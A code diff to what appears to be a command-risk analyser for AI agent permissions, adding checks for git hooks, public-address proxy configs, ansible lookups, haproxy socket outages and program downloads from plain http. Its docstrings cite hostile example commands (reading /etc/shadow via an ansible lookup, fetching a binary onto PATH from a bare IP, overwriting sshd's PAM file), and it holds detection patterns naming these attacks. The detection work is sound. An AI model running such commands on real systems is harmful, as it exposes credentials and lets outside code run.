@@ -23,6 +23,7 @@ from aiperm_tui.policy.fspaths import (
     PathClass,
     classify,
     describe,
+    git_hook,
     grants_login,
     is_data_store,
     is_live_data,
@@ -69,6 +70,7 @@ DOWNLOADERS = frozenset(
         "lwp-request",
         "GET",
         "httpie",
+        "axel",
     }
 )
 
@@ -614,6 +616,19 @@ def write_hit(
     elif grants_login(target.text):
         severity = "high"
         message = f"{verb} {target.text}: adds a key that may log in to the account"
+    elif cls != "temp" and (address := _proxied_outside(text)) is not None:
+        severity = "high"
+        message = (
+            f"{verb} {target.text}: a proxy or web server configuration that sends traffic "
+            f"to {address}, a bare public address (the site's requests, cookies and logins "
+            "go there)"
+        )
+    elif git_hook(target.text):
+        severity = "high"
+        message = (
+            f"{verb} {target.text}: a git hook, code git runs on the next checkout, commit "
+            "or push in the account of whoever runs it"
+        )
     else:
         message = f"{verb} {target.text}{': ' + what if what else ''}"
     blast: Blast = "system" if cls in ("device", "critical", "root", "system") else "single"
@@ -629,6 +644,39 @@ def write_hit(
         suggest="lsblk" if cls == "device" else "",
         scoped=severity == "medium",
     )
+
+
+# A proxy or web server directive that sends requests on (nginx's proxy_pass and its
+# kin, apache's ProxyPass, haproxy's and nginx's `server`, a redirect), to a bare IPv4
+# address.
+_PROXY_TO_ADDRESS = lazy(
+    r"(?i)\b(?:proxy_pass|fastcgi_pass|uwsgi_pass|scgi_pass|grpc_pass|proxypass(?:reverse)?"
+    r"|server|return\s+30[1278]|rewrite\s+\S+)\s+(?:\S+\s+)?['\"]?(?:[a-z]+://)?"
+    r"(\d{1,3}(?:\.\d{1,3}){3})\b"
+)
+
+
+def _proxied_outside(text: str | None) -> str | None:
+    """The public IPv4 address a configuration written on the line proxies or redirects to
+    (`proxy_pass https://203.0.113.9;`), or None: a private, shared (CGNAT, tailnets),
+    loopback or link-local address is the fleet's own backend."""
+    if not text:
+        return None
+    import ipaddress  # here, not at the top: only a written proxy configuration needs it
+
+    for m in _PROXY_TO_ADDRESS.finditer(text):
+        try:
+            ip = ipaddress.IPv4Address(m.group(1))
+        except ValueError:
+            continue
+        if ip.is_global or _DOCUMENTATION.match(m.group(1)):
+            return m.group(1)
+    return None
+
+
+# The documentation ranges (TEST-NET-1..3) stand for a public address in examples; Python
+# counts them not global.
+_DOCUMENTATION = lazy(r"^(?:192\.0\.2|198\.51\.100|203\.0\.113)\.")
 
 
 def value_word(cmd: Cmd, text: str) -> Word:
@@ -780,9 +828,8 @@ def changes(
     why = ""
     for word in paths:
         cls = classify(word.text)
-        if (cls in ("device", "root", "critical") or grants_login(word.text)) and _rank(
-            worst
-        ) < _rank("high"):
+        planted = grants_login(word.text) or git_hook(word.text)
+        if (cls in ("device", "root", "critical") or planted) and _rank(worst) < _rank("high"):
             worst = "critical" if cls == "device" else "high"
             blast = "system"
         if cls in ("device", "root", "critical", "dotfile") and not why:
@@ -1208,14 +1255,16 @@ def _dd(cmd: Cmd, an: Analysis) -> list[Hit]:
     return hits
 
 
-@handles("tee")
+@handles("tee", "sponge")
 def _tee(cmd: Cmd, an: Analysis) -> list[Hit]:
+    """tee writes its input to each file it names; moreutils' sponge to its one file once
+    the input ends (`sponge /etc/pam.d/sshd < FILE` replaces the file)."""
     fed = an.literal_input(cmd)
     found = (
         write_hit(
             w,
             cmd.span,
-            "tee writes",
+            f"{cmd.name} writes",
             truncate=not cmd.has("a", "append"),
             cwd=an.cwd,
             text=fed[0] if fed else None,
@@ -3407,8 +3456,27 @@ def _planted_recipe(cmd: Cmd, an: Analysis) -> str | None:
     return None
 
 
+# A Jinja lookup in ansible's arguments runs on this host (the controller) before any
+# task, check mode or not: `pipe` and `lines` run a command, `file` and its kin read one.
+_LOOKUP = lazy(
+    r"""\b(?:lookup|query|q)\(\s*['"](pipe|lines|file|unvault|template|first_found)['"]"""
+    r"""\s*,\s*['"]([^'"]+)['"]"""
+)
+
+
+def _controller_lookups(cmd: Cmd, an: Analysis) -> None:
+    """`ansible localhost -m debug -a 'msg={{ lookup("file", "/etc/shadow") }}'` reads the
+    shadow file as `cat` would; `lookup("pipe", CMD)` runs CMD: each is judged so."""
+    for m in _LOOKUP.finditer(cmd.text()):
+        kind, arg = m.groups()
+        text = arg if kind in ("pipe", "lines") else f"cat {_q(arg)}"
+        an.payload(text, cmd.args, "exec.fleet_lookup", f"{cmd.name} (a lookup on this host)")
+
+
 @handles("ansible", "ansible-playbook", "salt", "salt-call", "salt-ssh", "puppet", "chef-client")
 def _config_mgmt(cmd: Cmd, an: Analysis) -> list[Hit]:
+    if cmd.name.startswith("ansible"):
+        _controller_lookups(cmd, an)
     if cmd.has("check", "C", "syntax-check", "list-hosts", "list-tasks", "list-tags", "noop"):
         return []
     if cmd.name == "chef-client" and cmd.has("why-run", "W"):
@@ -4304,6 +4372,14 @@ _CONTROL_SOCKET = lazy(
     r"(?i)(?:^|\s|:)(?:unix(?:-connect|-client)?:)?(/\S+\.sock(?:et)?|/(?:var/)?run/[^\s,]+)(?=[\s,]|$)"
 )
 _SOCKET_READ = lazy(r"(?i)(show|get|help|info|stats?|list|version|ping|status|dump)\b")
+# Commands there that take a whole frontend or backend away, or a server named by a
+# variable (`for s in web-1 web-2 ...; do echo "disable server be/$s" | socat ...`: the
+# loop may be every server the backend has), as an outage.
+_SOCKET_OUTAGE = lazy(
+    r"(?i)^\s*(?:(?:disable|shutdown)\s+(?:frontend|backend)\b|shutdown\s+sessions\s+backend\b"
+    r"|(?:disable\s+server|shutdown\s+sessions\s+server)\s+\S*\$"
+    r"|set\s+server\s+\S*\$\S*\s+(?:state\s+(?:maint|drain)|weight\s+0+%?(?:\s|$)))"
+)
 
 
 @handles("nc", "socat", "telnet", "ncat")
@@ -4327,6 +4403,16 @@ def _netcat(cmd: Cmd, an: Analysis) -> list[Hit]:
         commands = [c for c in re.split(r"[;\n]", sent or "") if c.strip()]
         if commands and all(_SOCKET_READ.match(c.strip()) for c in commands):
             return []
+        if any(_SOCKET_OUTAGE.match(c.strip("'\" ")) for c in commands + _piped_raw(cmd, an.src)):
+            return hit(
+                cmd,
+                "net.control_socket_outage",
+                "high",
+                f"{cmd.name} tells the daemon at {sock.group(1)} to stop serving a whole "
+                "frontend or backend, or each server a loop names (the backend may be left "
+                "with none)",
+                "system",
+            )
         return hit(
             cmd,
             "net.control_socket",
@@ -4383,7 +4469,32 @@ def _protocol_change(sent: str) -> str | None:
     return None
 
 
-@handles("curl", "wget", "fetch", "aria2c", "http", "https", "httpie", "xh")
+# A file on PATH (a system bin folder): what is written there runs whenever its name is
+# typed. An address that proves nothing about who answers: plain http or ftp, or a bare
+# IP address.
+_ON_PATH = lazy(r"^/(?:usr/(?:local/)?)?s?bin/[^/]+$|^/opt/[^/]+/bin/[^/]+$")
+_UNAUTHENTICATED = lazy(
+    r"(?:^|\s)['\"]?(?:(?:http|ftp)://|(?:https?://)?\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?/)"
+)
+
+
+def _unauthenticated_program(cmd: Cmd, out: str) -> list[Hit]:
+    """`axel -o /usr/local/bin/kubectl http://203.0.113.44/kubectl`: a program put on PATH
+    from an address that proves nothing about who answers; every later use of its name
+    runs what they sent (a download over https from a named host stays a write)."""
+    if not _ON_PATH.match(normalize_path(out)) or not _UNAUTHENTICATED.search(cmd.text()):
+        return []
+    return hit(
+        cmd,
+        "net.unauthenticated_program",
+        "high",
+        f"{cmd.name} puts {out} on PATH from plain http or a bare address (nothing proves "
+        "who sent it): every later run of that name runs their code",
+        "system",
+    )
+
+
+@handles("curl", "wget", "fetch", "aria2c", "http", "https", "httpie", "xh", "axel")
 def _download(cmd: Cmd, an: Analysis) -> list[Hit]:
     text = " ".join(cmd.argv)
     if cmd.name == "wget":
@@ -4391,7 +4502,7 @@ def _download(cmd: Cmd, an: Analysis) -> list[Hit]:
         if out in ("-", "/dev/null") or cmd.has("spider", "S"):
             return []
         if out:
-            return option_write(cmd, out, "wget writes", an)
+            return option_write(cmd, out, "wget writes", an) + _unauthenticated_program(cmd, out)
         return hit(
             cmd,
             "net.download",
@@ -4402,8 +4513,11 @@ def _download(cmd: Cmd, an: Analysis) -> list[Hit]:
         )
     out = cmd.option_value("o", "output")
     hits: list[Hit] = []
+    if cmd.name == "aria2c" and out and (folder := cmd.option_value("d", "dir")):
+        out = f"{folder.rstrip('/')}/{out}"  # `aria2c -d DIR -o NAME`
     if out and out not in ("-", "/dev/null"):
         hits += option_write(cmd, out, f"{cmd.name} writes", an)
+        hits += _unauthenticated_program(cmd, out)
     elif cmd.has("O", "remote-name", "J", "remote-name-all"):
         hits += hit(
             cmd, "net.download", "medium", f"{cmd.name} saves a download", "single", scoped=True
@@ -4627,6 +4741,15 @@ def _account_danger(cmd: Cmd, pos: list[str]) -> str:
     if name == "userdel" and "root" in pos:
         return "deletes the root account"
     return ""
+
+
+def _piped_raw(cmd: Cmd, src: str) -> list[str]:
+    """The words `echo`/`printf` feed `cmd`, as the line `src` writes them (a loop's `$s`
+    unexpanded: the words themselves carry the loop's first value)."""
+    up = cmd.simple.upstream
+    if up is None or not up.words or command_name(up.words[0].text) not in ("echo", "printf"):
+        return []
+    return [src[w.start : w.end] for w in up.words[1:]]
 
 
 def _piped_text(cmd: Cmd) -> str | None:
